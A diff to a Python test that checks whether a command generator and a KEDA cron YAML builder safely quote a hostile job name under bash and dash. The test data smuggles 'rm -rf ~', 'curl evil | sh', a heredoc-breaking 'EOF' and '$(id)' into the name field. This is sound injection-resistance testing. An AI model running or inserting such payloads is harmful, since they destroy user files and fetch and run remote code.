@@ -95,13 +95,15 @@ def test_what_a_person_runs_quotes_every_value_from_a_record() -> None:
     assert rec is not None
     lines = rec.apply.splitlines()
     assert not any(line.startswith(("rm", "curl", "EOF")) for line in lines)
-    assert "--name=$'x\\'; rm -rf ~ #\\nEOF\\ncurl evil | sh'" in rec.apply
+    assert "$'" not in rec.apply  # POSIX quoting only: dash has no $'...'
+    assert "--name='x'\"'\"'; rm -rf ~ #?EOF?curl evil | sh'" in rec.apply
     assert "'q$(id)'" in rec.apply and "--partition=gpu" in rec.apply
-    # bash reads the quoted word back as the job name itself
+    # bash and dash read the quoted word back as the job name, its newlines shown as '?'
     word = rec.apply.split("--name=", 1)[1].split(" --partition", 1)[0]
-    cmd = ["bash", "-c", f"printf %s {word}"]
-    echoed = subprocess.run(cmd, check=True, capture_output=True, text=True)
-    assert echoed.stdout == evil
+    for shell in ("bash", "dash"):
+        cmd = [shell, "-c", f"printf %s {word}"]
+        echoed = subprocess.run(cmd, check=True, capture_output=True, text=True)
+        assert echoed.stdout == evil.replace("\n", "?")
     yaml = keda_cron("ns", evil, "Deployment", (1, 2) * 12)
     assert "\nEOF\n" not in yaml and json.dumps(evil) in yaml
 
